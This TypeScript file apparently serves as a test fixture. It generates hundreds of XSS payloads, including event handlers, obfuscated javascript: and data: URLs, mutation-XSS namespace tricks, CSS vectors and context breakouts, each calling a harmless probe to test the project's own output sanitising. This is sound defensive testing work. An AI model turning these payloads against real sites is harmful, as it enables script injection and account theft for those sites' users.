import { EXECUTION_PROBE, type HostileVector } from './hostileVector'

/**
 * Our own payloads in the style of the OWASP filter-evasion and PortSwigger XSS cheat sheets:
 * handlers on every kind of element, scripted URLs in every URL-bearing attribute with the
 * obfuscations browsers forgive, namespace confusion (mXSS), CSS, and breakouts from the text
 * contexts our exports write into (title, attribute, comment, style, textarea, Markdown).
 * `$` stands for the probe call; each vector gets its own number.
 */
type Template = [title: string, markup: string]

const HANDLER_TAGS = [
  'a',
  'abbr',
  'article',
  'aside',
  'b',
  'bdo',
  'blockquote',
  'body',
  'button',
  'code',
  'custom-tag',
  'del',
  'details',
  'dialog',
  'div',
  'em',
  'fieldset',
  'figure',
  'font',
  'footer',
  'h1',
  'header',
  'i',
  'input',
  'ins',
  'kbd',
  'label',
  'li',
  'main',
  'mark',
  'marquee',
  'nav',
  'ol',
  'output',
  'p',
  'pre',
  'q',
  's',
  'section',
  'select',
  'span',
  'strong',
  'sub',
  'summary',
  'table',
  'textarea',
  'u',
  'ul',
  'video',
  'xmp',
]

/** Handlers that fire without a click, and the attributes that make them fire. */
const HANDLER_FORMS: Template[] = [
  ['autofocus onfocus', '<TAG id=f tabindex=1 autofocus onfocus=$>focus</TAG>'],
  [
    'animation start',
    '<style>@keyframes x{}</style><TAG style="animation-name:x" onanimationstart=$>a</TAG>',
  ],
  ['pointer over', '<TAG onpointerover=$ onmouseover=$>hover</TAG>'],
  ['click', '<TAG onclick="$">click</TAG>'],
]

const ONE_OFF_HANDLERS: Template[] = [
  ['img onerror', '<img src=x onerror=$>'],
  ['img onerror, quoted', '<img src="x" onerror="$">'],
  ['img onerror, backticks', '<img src=`x` onerror=`$`>'],
  ['img onerror, slashes', '<img/src=x/onerror=$>'],
  ['img onerror, newline before =', '<img src=x onerror\n=$>'],
  ['img onerror, mixed case', '<IMG SRC=x OnErRoR=$>'],
  ['img onerror, entity-encoded body', '<img src=x onerror="&#x5f;&#x5f;xss(N)">'],
  ['img onerror, no space', '<img src=x onerror=$//>'],
  ['img onerror, unclosed', '<img src=x onerror=$ '],
  ['img onerror, double open', '<<img src=x onerror=$>>'],
  ['image onerror', '<image src=x onerror=$>'],
  ['img srcset', '<img srcset=",,,,,x" onerror=$>'],
  ['picture source', '<picture><source srcset=x><img src=x onerror=$></picture>'],
  ['video source onerror', '<video><source onerror=$ src=x></video>'],
  ['video poster', '<video poster=x onerror=$></video>'],
  ['audio onerror', '<audio src=x onerror=$>'],
  ['input image', '<input type=image src=x onerror=$>'],
  ['input autofocus', '<input autofocus onfocus=$>'],
  ['select autofocus', '<select autofocus onfocus=$>'],
  ['textarea autofocus', '<textarea autofocus onfocus=$></textarea>'],
  ['keygen autofocus', '<keygen autofocus onfocus=$>'],
  ['details ontoggle', '<details open ontoggle=$>'],
  ['details name ontoggle', '<details name=x open ontoggle=$><summary>s</summary></details>'],
  [
    'popover beforetoggle',
    '<button popovertarget=p>b</button><div id=p popover onbeforetoggle=$>p</div>',
  ],
  ['body onload', '<body onload=$>'],
  ['body onpageshow', '<body onpageshow=$>'],
  ['body onhashchange', '<body onhashchange=$>'],
  ['frameset onload', '<frameset onload=$>'],
  ['svg onload', '<svg onload=$>'],
  ['svg onload, slash', '<svg/onload=$>'],
  ['svg animate onbegin', '<svg><animate onbegin=$ attributeName=x dur=1s>'],
  ['svg set onbegin', '<svg><set onbegin=$ attributeName=x to=1>'],
  [
    'svg animate href',
    '<svg><a><animate attributeName=href values=javascript:$ /><text x=20 y=20>x</text></a></svg>',
  ],
  ['svg script', '<svg><script>$</script></svg>'],
  ['svg script href', '<svg><script href=data:,$ /></svg>'],
  ['svg foreignObject', '<svg><foreignObject><img src=x onerror=$></foreignObject></svg>'],
  [
    'svg use',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=$ /></svg>#x"/></svg>',
  ],
  [
    'math maction',
    '<math><maction actiontype=statusline xlink:href=javascript:$>x</maction></math>',
  ],
  ['iframe onload', '<iframe onload=$></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;img src=x onerror=parent.$&gt;"></iframe>'],
  ['object onerror', '<object data=x onerror=$></object>'],
  ['embed onload', '<embed src=x onload=$>'],
  ['link onload', '<link rel=stylesheet href=x onload=$ onerror=$>'],
  ['style onload', '<style onload=$></style>'],
  ['marquee onstart', '<marquee onstart=$>m</marquee>'],
  ['marquee behaviour', '<marquee loop=1 width=0 onfinish=$>m</marquee>'],
  ['script plain', '<script>$</script>'],
  ['script src data', '<script src=data:,$></script>'],
  ['script, mixed case', '<ScRiPt>$</sCrIpT>'],
  ['script split', '<scr<script>ipt>$</scr</script>ipt>'],
  ['script in comment end', '<!--<script>-->$<!--</script>-->'],
  ['script type module', '<script type=module>$</script>'],
  ['script nonce guess', '<script nonce=n>$</script>'],
  ['form with button', '<form><button formaction=javascript:$>go</button></form>'],
  ['isindex action', '<isindex action=javascript:$ type=submit>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:$">'],
  ['base href', '<base href="javascript:$//"><a href=x>x</a>'],
  ['template content', '<template><img src=x onerror=$></template>'],
  ['noscript attribute', '<noscript><p title="</noscript><img src=x onerror=$>"></noscript>'],
  ['noembed breakout', '<noembed><img title="</noembed><img src=x onerror=$>"></noembed>'],
  ['noframes breakout', '<noframes><p title="</noframes><img src=x onerror=$>"></noframes>'],
  ['xmp breakout', '<xmp><p title="</xmp><img src=x onerror=$>">'],
  ['iframe text breakout', '<iframe><p title="</iframe><img src=x onerror=$>"></iframe>'],
  ['plaintext', '<plaintext><img src=x onerror=$>'],
  ['textarea breakout', '<textarea><p title="</textarea><img src=x onerror=$>"></textarea>'],
  ['title breakout', '<title><p title="</title><img src=x onerror=$>"></title>'],
]

const MUTATION_AND_NAMESPACE: Template[] = [
  ['svg p style', '<svg></p><style><a id="</style><img src=1 onerror=$>">'],
  ['math mtext table', '<math><mtext><table><mglyph><style><img src=x onerror=$>'],
  ['form math mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$>'],
  ['math mi malignmark', '<math><mi><malignmark><style><img src=x onerror=$>'],
  ['svg desc', '<svg><desc><style><img src=x onerror=$></style></desc></svg>'],
  ['svg title', '<svg><title><style></title><img src=x onerror=$></style></svg>'],
  [
    'math annotation-xml',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=$></style></annotation-xml></math>',
  ],
  ['svg style comment', '<svg><style><!--</style><img src=x onerror=$>--></style></svg>'],
  ['comment bang', '<!--><img src=x onerror=$>-->'],
  ['comment dashes', '<!---><img src=x onerror=$>-->'],
  ['bogus comment', '<? ><img src=x onerror=$> ?>'],
  ['cdata in html', '<![CDATA[><img src=x onerror=$>]]>'],
  ['cdata in svg', '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=$>]]></svg>'],
  ['table foster parent', '<table><img src=x onerror=$></table>'],
  ['select in table', '<table><select><option><img src=x onerror=$></option></select></table>'],
  ['nested a', '<a href=https://a.example><a href=javascript:$>x</a></a>'],
  ['nested form', '<form><form><img src=x onerror=$></form></form>'],
  ['is attribute', '<p is="x" onclick=$>x</p>'],
  [
    'dom clobbering',
    '<img name=getElementById><form id=x><input name=attributes><img src=x onerror=$></form>',
  ],
  ['shadow template', '<div><template shadowrootmode=open><img src=x onerror=$></template></div>'],
  ['custom element', '<x-foo onclick=$ tabindex=0 autofocus onfocus=$>x</x-foo>'],
  ['object param', '<object><param name=src value=javascript:$></object>'],
  ['frame in body', '<frame src=javascript:$>'],
  ['svg a xlink', '<svg><a xlink:href="javascript:$"><text y=20>x</text></a></svg>'],
  ['math href', '<math href="javascript:$">x</math>'],
  ['xml namespace', '<html xmlns:xss><?import namespace=xss implementation=x><xss:xss>x</xss:xss>'],
  ['null byte in tag', '<scr\u0000ipt>$</scr\u0000ipt>'],
  ['null byte in handler', '<img src=x on\u0000error=$>'],
  ['utf-7 like', '+ADw-script+AD4-$+ADw-/script+AD4-'],
  ['fullwidth brackets', '\uFF1Cscript\uFF1E$\uFF1C/script\uFF1E'],
]

const CSS_VECTORS: Template[] = [
  ['style url javascript', '<div style="background:url(javascript:$)">x</div>'],
  ['style expression', '<div style="width:expression($)">x</div>'],
  ['style behaviour', '<div style="behavior:url(x.htc)">x</div>'],
  ['style moz-binding', '<div style="-moz-binding:url(x.xml#xss)">x</div>'],
  ['style import', '<style>@import "javascript:$";</style>'],
  [
    'style fixed overlay',
    '<div style="position:fixed;inset:0;z-index:99999;background:red" onclick=$>x</div>',
  ],
  ['style tag with handler selector', '<style>*{background:url("javascript:$")}</style>'],
  ['link stylesheet data', '<link rel=stylesheet href="data:text/css,*{x:expression($)}">'],
  ['style escaped', '<div style="background:u\\72l(javascript:$)">x</div>'],
  ['svg style attribute', '<svg><rect style="fill:url(javascript:$)"/></svg>'],
]

/** Breakouts from the text contexts our pages and files write plain text into. */
const CONTEXT_BREAKOUTS: Template[] = [
  ['attribute double quote', '"><img src=x onerror=$>'],
  ['attribute single quote', "'><img src=x onerror=$>"],
  ['attribute backtick', '`><img src=x onerror=$>'],
  ['attribute unquoted', ' onmouseover=$ x='],
  ['attribute quote handler', '" onfocus="$" autofocus x="'],
  ['title', '</title><script>$</script>'],
  ['style element', '</style><script>$</script>'],
  ['textarea', '</textarea><script>$</script>'],
  ['script element', '</script><script>$</script>'],
  ['comment', '--><script>$</script><!--'],
  ['cdata', ']]><script>$</script>'],
  ['srcdoc quote', '&quot;&gt;&lt;script&gt;$&lt;/script&gt;'],
  ['json in script', '</script><img src=x onerror=$>{"a":"'],
  ['template literal', '${$}'],
  ['entity encoded tag', '&lt;img src=x onerror=$&gt;'],
  ['double encoded tag', '&amp;lt;img src=x onerror=$&amp;gt;'],
  ['markdown link', '[click](javascript:$)'],
  ['markdown image', '![x](javascript:$)'],
  ['markdown reference', '[x][1]\n\n[1]: javascript:$'],
  ['markdown autolink', '<javascript:$>'],
  ['markdown html block', '<div>\n<img src=x onerror=$>\n</div>'],
  ['markdown link title', '[x](https://a.example "title" onclick=$)'],
  ['markdown escaped bracket', '\\[x\\](javascript:$)'],
  ['right-to-left override', '\u202Egnp.exe<img src=x onerror=$>'],
  ['zero-width joiner', 'java\u200Dscript:$'],
  ['newline in tag', '<img\nsrc=x\nonerror=$\n>'],
  ['url-encoded tag', '%3Cimg%20src%3Dx%20onerror%3D$%3E'],
  ['unicode escapes', '\\u003cimg src=x onerror=$\\u003e'],
  ['very long attribute', `<img src=x title="${'a'.repeat(5000)}" onerror=$>`],
  ['deep nesting', `${'<div>'.repeat(300)}<img src=x onerror=$>${'</div>'.repeat(300)}`],
]

/** The forms of `javascript:` browsers forgive, and the other scripted schemes. */
const SCRIPTED_URLS: Template[] = [
  ['javascript:', 'javascript:$'],
  ['mixed case', 'JaVaScRiPt:$'],
  ['leading space', ' javascript:$'],
  ['tab inside', 'java\tscript:$'],
  ['tab entity', 'java&#x09;script:$'],
  ['newline entity', 'jav&#x0A;ascript:$'],
  ['decimal entities', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$'],
  ['hex entity no semicolon', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A$'],
  ['colon entity', 'javascript&colon;$'],
  ['control character', '\u0001javascript:$'],
  ['comment after scheme', 'javascript://%0a$'],
  ['polyglot', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=$>'],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['data html', 'data:text/html,<script>$</script>'],
  ['data html base64', 'data:text/html;base64,PHNjcmlwdD5fX3hzcygwKTwvc2NyaXB0Pg=='],
  ['data svg', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="$"/>'],
]

const URL_SINKS: Template[] = [
  ['a href', '<a href="U">link</a>'],
  ['iframe src', '<iframe src="U"></iframe>'],
  ['form action', '<form action="U"><button>go</button></form>'],
  ['button formaction', '<button formaction="U">go</button>'],
  ['object data', '<object data="U"></object>'],
  ['embed src', '<embed src="U">'],
  ['svg a xlink:href', '<svg><a xlink:href="U"><text y="20">x</text></a></svg>'],
  ['img src', '<img src="U">'],
  ['area href', '<map name=m><area shape=rect coords=0,0,9,9 href="U"></map>'],
  ['video poster', '<video poster="U"></video>'],
  ['blockquote cite', '<blockquote cite="U">q</blockquote>'],
  ['base href', '<base href="U">'],
  ['link href', '<link rel=import href="U">'],
  ['bare text', 'U'],
]

const expand = (templates: Template[], prefix: string): Template[] =>
  templates.map(([title, markup]) => [`${prefix}: ${title}`, markup])

const handlerTemplates = (): Template[] =>
  HANDLER_TAGS.flatMap((tag) =>
    HANDLER_FORMS.map(([form, markup]): Template => [
      `handler on <${tag}>: ${form}`,
      markup.replaceAll('TAG', tag),
    ]),
  )

const urlTemplates = (): Template[] =>
  SCRIPTED_URLS.flatMap(([scheme, url]) =>
    URL_SINKS.map(([sink, markup]): Template => [
      `scripted URL (${scheme}) in ${sink}`,
      markup.replace('U', url),
    ]),
  )

export const cheatSheetVectors = (): HostileVector[] =>
  [
    ...handlerTemplates(),
    ...expand(ONE_OFF_HANDLERS, 'handler'),
    ...expand(MUTATION_AND_NAMESPACE, 'mutation or namespace'),
    ...expand(CSS_VECTORS, 'css'),
    ...expand(CONTEXT_BREAKOUTS, 'context breakout'),
    ...urlTemplates(),
  ].map(([title, markup], index) => ({
    id: `cheat-sheet-${index}`,
    origin: 'cheat-sheet',
    title,
    payload: markup.replaceAll('$', `${EXECUTION_PROBE}(${index})`).replaceAll('(N)', `(${index})`),
  }))
